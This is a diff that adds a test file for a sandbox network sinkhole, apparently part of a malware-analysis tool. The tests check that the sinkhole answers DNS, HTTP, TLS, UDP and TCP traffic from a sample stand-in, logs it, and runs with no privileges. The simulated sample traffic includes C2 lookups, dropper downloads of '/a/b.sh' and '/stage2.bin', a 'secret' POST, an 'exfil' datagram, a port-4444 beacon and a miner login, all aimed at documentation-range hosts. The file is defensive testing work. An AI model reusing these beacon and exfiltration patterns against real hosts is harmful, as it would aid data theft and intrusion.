@@ -1,0 +1,326 @@
+import { readdirSync, readFileSync, readlinkSync } from "node:fs";
+import { mkdtemp, readFile, rm } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { SinkRecord, type SinkRecordOf } from "@airlock/contracts";
+import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
+import { createRunName } from "../run-name.ts";
+import { uidOf } from "./child-program.ts";
+import { createSampleNetwork, type SampleNetwork } from "./sample-network.ts";
+import { SampleStandIn } from "./sample-stand-in.ts";
+import { type Sinkhole, type SinkholeOptions, startSinkhole } from "./sinkhole.ts";
+
+let sample: SampleStandIn;
+let network: SampleNetwork;
+let folder: string;
+let logPath: string;
+let running: Sinkhole | undefined;
+
+beforeAll(async () => {
+  folder = await mkdtemp(join(tmpdir(), "airlock-test-"));
+  logPath = join(folder, "sink.ndjson");
+  sample = await SampleStandIn.start();
+  network = await createSampleNetwork({ runName: createRunName(), pausePid: sample.pid });
+});
+/** A failed test must not keep the ports from the next one. */
+afterEach(() => running?.stop());
+afterAll(async () => {
+  await network.dispose();
+  await sample.stop();
+  await rm(folder, { recursive: true });
+});
+
+/** Every line must be as the contract says. */
+async function records(): Promise<SinkRecord[]> {
+  const lines = (await readFile(logPath, "utf8")).trimEnd().split("\n");
+  return lines.map((line) => SinkRecord.parse(JSON.parse(line)));
+}
+
+function ofKind<K extends SinkRecord["kind"]>(all: readonly SinkRecord[], kind: K): SinkRecordOf<K>[] {
+  return all.filter((record): record is SinkRecordOf<K> => record.kind === kind);
+}
+
+describe("the sinkhole", () => {
+  it("answers each protocol at any address and port, and logs what was asked for where", async () => {
+    const sinkhole = await start({ exposedPorts: [] });
+    expect(sinkhole.alive).toBe(true);
+    await checkNames();
+    await checkHttp();
+    await checkTls();
+    await checkOthers();
+    await checkEcho();
+    const stopped = await sinkhole.stop();
+    expect(sinkhole.alive).toBe(false);
+
+    const all = await records();
+    expect(stopped).toEqual({ requests: all.length - 1, logTruncated: false });
+    expect(all.at(-1)).toMatchObject({ kind: "account", unwritten: 0, failures: 0, droppedDatagrams: 0 });
+    checkDnsLog(all);
+    checkHttpLog(all);
+    expect(ofKind(all, "tls")).toMatchObject([
+      {
+        serverName: "c2.example.org",
+        destinationIp: "198.51.100.9",
+        destinationPort: 4443,
+        established: true,
+        alpn: [],
+      },
+      { serverName: "", destinationIp: "2001:db8::44", destinationPort: 8443, established: true, version: "1.3" },
+    ]);
+    expect(ofKind(all, "udp")).toContainEqual(
+      expect.objectContaining({
+        destinationIp: "203.0.113.50",
+        destinationPort: 40000,
+        first: Buffer.from("exfil").toString("base64"),
+        datagrams: 1,
+      }),
+    );
+    const raw = ofKind(all, "tcp").find((record) => record.destinationIp === "203.0.113.9");
+    expect(raw).toMatchObject({
+      application: "unknown",
+      destinationPort: 4444,
+      first: Buffer.from("\x00\x01beacon\xff", "latin1").toString("base64"),
+      bytesIn: 9,
+      end: "sample",
+    });
+  });
+
+  it("has no rights, no environment and nothing of the host to see", async () => {
+    const sinkhole = await start({ exposedPorts: [] });
+    const uid = uidOf(network.runName);
+    const own = readdirSync("/proc").filter(
+      (pid) => /^\d+$/.test(pid) && status(pid, "Uid") === `${uid}\t${uid}\t${uid}\t${uid}`,
+    );
+    const programs = own.map((pid) => ({
+      pid,
+      name: status(pid, "Name"),
+      capabilities: BigInt(`0x${status(pid, "CapPrm")}`),
+      bounding: BigInt(`0x${status(pid, "CapBnd")}`),
+      locked: status(pid, "NoNewPrivs"),
+      groups: status(pid, "Groups").trim(),
+    }));
+    const rawOnly = 1n << 13n;
+    expect(programs).toEqual([
+      expect.objectContaining({
+        name: "sink-sockets",
+        capabilities: rawOnly,
+        bounding: rawOnly,
+        locked: "1",
+        groups: "",
+      }),
+      expect.objectContaining({ name: "node", capabilities: 0n, bounding: 0n, locked: "1", groups: "" }),
+    ]);
+    for (const { pid } of programs) {
+      const root = readdirSync(`/proc/${pid}/root`);
+      for (const hidden of ["home", "root", "proc", "sys", "run", "var", "tmp"]) {
+        // Our own code may live below one of these, and then its path alone is there.
+        if (root.includes(hidden)) expect(import.meta.filename.startsWith(`/${hidden}/`)).toBe(true);
+      }
+      expect(readdirSync(`/proc/${pid}/root/etc`)).toEqual(["ld.so.cache"]);
+      expect(readlinkSync(`/proc/${pid}/cwd`)).toBe("/");
+    }
+    expect(readFileSync(`/proc/${programs[1]?.pid}/environ`, "utf8")).toBe("");
+    await sinkhole.stop();
+  });
+
+  it("asks exposed ports once something listens there", async () => {
+    const sinkhole = await start({
+      exposedPorts: [
+        { port: 8080, protocol: "tcp" },
+        { port: 53, protocol: "udp" },
+      ],
+    });
+    const asked = sample.run<string[]>(
+      `const seen = [];
+       await sleep(400);
+       http.createServer((q, a) => { seen.push(q.method + " " + q.url); a.end("hello"); }).listen(8080);
+       for (let i = 0; i < 100 && seen.length === 0; i++) await sleep(50);
+       await sleep(100);
+       return seen;`,
+    );
+    sinkhole.stimulate();
+    sinkhole.stimulate();
+    expect(await asked).toEqual(["GET /"]);
+    await sinkhole.stop();
+    const probes = ofKind(await records(), "probe");
+    expect(probes).toMatchObject([
+      { connected: true, destinationIp: "172.17.0.2", destinationPort: 8080, sourceIp: "172.17.0.1", error: "" },
+    ]);
+    expect(Buffer.from(probes[0]?.first ?? "", "base64").toString()).toContain("hello");
+  });
+
+  it("keeps its log within the bound and says what is missing", async () => {
+    const sinkhole = await start({ exposedPorts: [], logBytes: 20_000 });
+    await sample.run(
+      `for (let i = 0; i < 200; i++) await exchange("192.0.2.1", 80, "GET /" + "a".repeat(900) + " HTTP/1.0\\r\\n\\r\\n");`,
+    );
+    const stopped = await sinkhole.stop();
+    const all = await records();
+    expect(stopped).toEqual({ requests: 400, logTruncated: true });
+    expect((await readFile(logPath)).length).toBeLessThanOrEqual(20_000);
+    expect(all.at(-1)).toMatchObject({ kind: "account", requests: 400, unwritten: 400 - (all.length - 1) });
+  });
+
+  it("shows that it died, and what it had logged counts as truncated", async () => {
+    const sinkhole = await start({ exposedPorts: [] });
+    await sample.run('return exchange("192.0.2.1", 80, "GET / HTTP/1.0\\r\\n\\r\\n");');
+    const uid = String(uidOf(network.runName));
+    const relay = readdirSync("/proc").find((pid) => /^\d+$/.test(pid) && isRelay(pid, uid));
+    process.kill(Number(relay), "SIGKILL");
+    await expect.poll(() => sinkhole.alive).toBe(false);
+    const stopped = await sinkhole.stop();
+    expect(stopped.logTruncated).toBe(true);
+    expect(stopped.requests).toBeGreaterThanOrEqual(1);
+  });
+
+  it("fails with its code when the log can't be written", async () => {
+    const options = { network, logPath: "/proc/none/sink.ndjson", logBytes: 1000, exposedPorts: [] };
+    await expect(startSinkhole(options)).rejects.toMatchObject({ code: "SINK_FAILED" });
+  });
+});
+
+async function start(options: { exposedPorts: SinkholeOptions["exposedPorts"]; logBytes?: number }): Promise<Sinkhole> {
+  running = await startSinkhole({ network, logPath, logBytes: 1_000_000, ...options });
+  return running;
+}
+
+function status(pid: string, field: string): string {
+  try {
+    const text = readFileSync(`/proc/${pid}/status`, "utf8");
+    return new RegExp(`^${field}:\t(.*)$`, "m").exec(text)?.[1] ?? "";
+  } catch {
+    return "";
+  }
+}
+
+function isRelay(pid: string, uid: string): boolean {
+  return status(pid, "Name") === "sink-sockets" && status(pid, "Uid").startsWith(`${uid}\t`);
+}
+
+async function checkNames(): Promise<void> {
+  const answers = await sample.run<Record<string, unknown>>(
+    `const ask = async (server) => {
+       const resolver = new dns.Resolver({ timeout: 2000, tries: 1 });
+       resolver.setServers([server]);
+       const a = await resolver.resolve4("c2.example.org"), aaaa = await resolver.resolve6("c2.example.org");
+       return { a, aaaa, back: [...await resolver.reverse(a[0]), ...await resolver.reverse(aaaa[0])],
+         own: await resolver.resolve4("payments-1"), localhost: await resolver.resolve4("localhost"),
+         text: (await resolver.resolveTxt("x.test")).length, mail: (await resolver.resolveMx("x.test"))[0].exchange };
+     };
+     // A query for example.com, over TCP: length in front.
+     const query = Buffer.from("001d123401000001000000000000076578616d706c6503636f6d0000010001", "hex").toString("latin1");
+     const socket = net.connect(5353, "2001:db8::99", () => socket.write(query, "latin1"));
+     const stream = await new Promise((resolve) => socket.once("data", (d) => resolve(d.toString("hex"))));
+     return { v4: await ask("172.17.0.1"), v6: await ask("[2001:db8::53]:53"), odd: await ask("9.9.9.9:5300"), stream };`,
+  );
+  const expected = {
+    a: ["198.18.0.2"],
+    aaaa: ["2001:db8:5eed::2"],
+    back: ["c2.example.org", "c2.example.org"],
+    own: ["172.17.0.2"],
+    localhost: ["127.0.0.1"],
+    text: 1,
+    mail: "mail.x.test",
+  };
+  expect(answers).toMatchObject({ v4: expected, v6: expected, odd: expected });
+  expect(answers["stream"]).toMatch(/^002d1234818000010001.*c6120001$/);
+}
+
+async function checkHttp(): Promise<void> {
+  const got = await sample.run<{ status: number; type: string; text: string }[]>(
+    `return [
+       await request({ host: "203.0.113.77", port: 8081, path: "/a/b.sh?q=1", headers: { "User-Agent": "dropper/1" } }),
+       await request({ host: "2001:db8::80", port: 80, path: "/stage2.bin" }),
+       await request({ host: "192.0.2.1", port: 9999, method: "POST", path: "/in", headers: { Accept: "application/json" } }, "secret"),
+     ];`,
+  );
+  expect(got).toMatchObject([{ status: 200 }, { status: 200 }, { status: 200, type: "application/json" }]);
+  expect(got[0]?.text).toMatch(/^#!\/bin\/sh\n/);
+  expect(got[1]?.text).toMatch(/^\x7fELF/);
+}
+
+async function checkTls(): Promise<void> {
+  const got = await sample.run<Record<string, { names: string; subject: string; text: string }>>(
+    `const secure = (options) => new Promise((resolve, reject) => {
+       const socket = tls.connect({ rejectUnauthorized: false, ...options }, () => {
+         const { subjectaltname, subject } = socket.getPeerCertificate();
+         socket.write("GET /x.json HTTP/1.1\\r\\nHost: inner\\r\\nConnection: close\\r\\n\\r\\n");
+         let text = ""; socket.on("data", (d) => { text += d; });
+         socket.on("end", () => resolve({ names: subjectaltname, subject: subject.CN, text }));
+       });
+       socket.on("error", reject);
+     });
+     return { named: await secure({ host: "198.51.100.9", port: 4443, servername: "c2.example.org" }),
+       bare: await secure({ host: "2001:db8::44", port: 8443 }) };`,
+  );
+  expect(got["named"]).toMatchObject({ names: "DNS:c2.example.org", subject: "c2.example.org" });
+  expect(got["bare"]?.names).toBe("IP Address:2001:DB8:0:0:0:0:0:44");
+  expect(got["named"]?.text).toMatch(/^HTTP\/1\.1 200 OK/);
+}
+
+async function checkOthers(): Promise<void> {
+  const got = await sample.run<Record<string, unknown>>(
+    `const login = JSON.stringify({ id: 1, method: "login", params: { login: "x" } }) + "\\n";
+     return {
+       miner: await exchange("198.51.100.33", 3333, login, 300),
+       mail: await exchange("198.51.100.25", 25, "", 1800),
+       bytes: await new Promise((r) => { const s = net.connect(4444, "203.0.113.9", () => s.end(Buffer.from("0001626561636f6eff", "hex"))); s.on("close", () => r(true)); s.resume(); }),
+       time: await datagram("203.0.113.123", 123, Buffer.concat([Buffer.from([0x23]), Buffer.alloc(47)])),
+       mute: await datagram("203.0.113.50", 40000, "exfil", 200),
+     };`,
+  );
+  expect(JSON.parse(String(got["miner"]))).toMatchObject({ id: 1, result: { status: "OK" } });
+  expect(got["mail"]).toMatch(/^220 /);
+  expect(got["time"]).toMatchObject({ from: "203.0.113.123", port: 123 });
+  expect(got["mute"]).toBeNull();
+}
+
+/** The kernel answers these, at any address. */
+async function checkEcho(): Promise<void> {
+  const got = await sample.run<string[]>(
+    `const ping = (...args) => require("node:child_process").spawnSync("busybox", args, { encoding: "utf8" }).stdout;
+     return [ping("ping", "-c1", "-W2", "8.8.4.4"), ping("ping", "-6", "-c1", "-W2", "2001:db8::1:2:3"), ping("ping", "-c1", "-W2", "172.17.0.99")];`,
+  );
+  for (const text of got) expect(text).toContain("1 packets received");
+}
+
+function checkDnsLog(all: readonly SinkRecord[]): void {
+  const dns = ofKind(all, "dns");
+  expect(dns).toContainEqual(
+    expect.objectContaining({
+      name: "c2.example.org",
+      type: "AAAA",
+      answers: ["2001:db8:5eed::2"],
+      protocol: "udp",
+      destinationIp: "2001:db8::53",
+      destinationPort: 53,
+    }),
+  );
+  expect(dns).toContainEqual(
+    expect.objectContaining({
+      name: "example.com",
+      transport: "stream",
+      destinationIp: "2001:db8::99",
+      destinationPort: 5353,
+    }),
+  );
+}
+
+function checkHttpLog(all: readonly SinkRecord[]): void {
+  const http = ofKind(all, "http");
+  expect(http).toMatchObject([
+    {
+      method: "GET",
+      target: "/a/b.sh?q=1",
+      userAgent: "dropper/1",
+      host: "203.0.113.77:8081",
+      destinationIp: "203.0.113.77",
+      destinationPort: 8081,
+      answer: "script",
+    },
+    { destinationIp: "2001:db8::80", destinationPort: 80, answer: "program" },
+    { method: "POST", bodyBytes: 6, body: Buffer.from("secret").toString("base64"), destinationIp: "192.0.2.1" },
+    { encrypted: true, host: "inner", destinationIp: "198.51.100.9", destinationPort: 4443 },
+    { encrypted: true, destinationIp: "2001:db8::44" },
+  ]);
+}
